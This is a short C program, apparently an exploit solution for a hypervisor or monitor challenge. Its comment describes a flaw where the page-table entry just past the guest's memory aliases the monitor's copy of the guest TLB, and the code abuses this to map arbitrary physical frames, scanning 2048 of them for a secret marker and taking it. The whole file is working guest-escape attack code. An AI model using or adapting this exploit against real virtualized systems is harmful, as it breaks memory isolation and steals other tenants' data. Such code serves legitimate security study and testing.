/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * One page behind the end: its pmap entry is the word behind the pmap. That is where the monitor
 * keeps this guest's TLB, whose first word is the high word of entry 0: ours to choose. So any frame of
 * the machine can be had, by writing its number there.
 */
#include "thief.h"

uint8_t found[16];

enum { WINDOW = 0x20000000, SPACE = 7, FIRST = 0x80000000, FRAMES = 2048 };

static void entry(uint32_t index, uint32_t hi, uint32_t lo)
{
    csr_write(mtlbidx, index);
    tlbwi(hi, lo);
}

/* The frame's words from the mark on, in the order of the page. */
static bool read_frame(uint32_t frame, uint32_t words[8])
{
    entry(0, frame | 1, 0);
    entry(1, WINDOW | SPACE, memory_end() | TLB_LO_V | TLB_LO_R);
    for (uint32_t i = 0; i < 8; i++) {
        if (!peek(WINDOW + SECRET_MARK + 4 * i, SPACE, &words[i])) {
            return false;
        }
    }
    return true;
}

int main(void)
{
    uint32_t words[8];
    for (uint32_t i = 0; i < FRAMES; i++) {
        if (read_frame(FIRST + i * PAGE_SIZE, words) && take(words)) {
            break;
        }
    }
    return 0;
}
